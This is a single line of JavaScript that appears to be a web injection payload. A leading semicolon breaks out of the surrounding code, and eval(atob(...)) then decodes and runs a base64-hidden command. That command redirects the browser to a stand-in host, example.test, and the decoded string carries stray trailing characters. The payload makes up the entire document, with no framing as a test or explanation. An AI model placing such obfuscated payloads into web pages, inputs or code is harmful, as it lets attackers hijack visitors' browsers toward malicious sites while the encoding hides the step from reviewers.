;eval(atob("ZG9jdW1lbnQubG9jYXRpb249Ii8vZXhhbXBsZS50ZXN0Lyki"));
